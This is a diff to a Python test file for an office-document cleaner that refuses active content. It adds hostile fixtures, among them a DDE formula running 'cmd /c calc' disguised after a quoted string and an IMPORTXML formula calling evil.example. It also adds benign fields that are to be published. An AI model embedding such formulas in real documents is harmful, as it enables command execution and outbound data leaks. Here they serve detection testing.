@@ -43,6 +43,10 @@ RUNNING = {
                  'url="https://evil.example/q"/></connection></connections>',
     "mail-merge": f'<w:settings {W}><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString '
                   'w:val="DSN=x"/><w:query w:val="SELECT * FROM t"/></w:mailMerge></w:settings>',
+    "importxml": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>IMPORTXML("https://evil.example/","//a")</f></c>'
+                 "</row></sheetData></worksheet>",
+    "dde-after-quotes": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>"x"&amp;cmd|\'/c calc\'!A0</f></c></row>'
+                        "</sheetData></worksheet>",
     "odt-dde": f'<office:document-content {TABLE}><text:dde-connection-decls><text:dde-connection-decl '
                'text:name="x"/></text:dde-connection-decls></office:document-content>',
 }
@@ -53,6 +57,9 @@ PLAIN = {
     "sum": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>SUM(B1:B9)</f></c><c r="A2"><f>HYPERLINK("https://'
            'example.org/","site")</f></c></row></sheetData></worksheet>',
     "text-naming-a-function": f'<sst {SHEET}><si><t>Use IMAGE( or a | to separate</t></si></sst>',
+    "toc-field": _field(' TOC \\o "1-3" \\h \\z \\u '),
+    "join-with-a-bar": f'<worksheet {SHEET}><sheetData><row><c r="A1"><f>B1&amp;" | "&amp;C1</f></c></row></sheetData>'
+                       "</worksheet>",
     "ods-sum": f'<office:document-content {TABLE}><table:table-cell table:formula="of:=SUM([.A1:.A3])"/>'
                "</office:document-content>",
 }
@@ -93,5 +100,7 @@ def test_a_mail_merge_is_refused_with_how_to_remove_it():
 
 
 def test_a_document_with_plain_fields_and_formulas_is_published():
-    clean_office("docx", hostile_docx(MARKER, body=_field(" PAGE ", declare=False)))
+    fields = "".join(_field(field, declare=False) for field in (
+        " PAGE ", " NUMPAGES ", ' TOC \\o "1-3" \\h \\z \\u ', ' HYPERLINK "https://example.org/" ', " DATE \\@ \"d MMMM yyyy\" "))
+    clean_office("docx", hostile_docx(MARKER, body=fields))
     clean_office("xlsx", hostile_xlsx(MARKER, extra_parts=[("xl/worksheets/sheet1.xml", PLAIN["sum"])]))
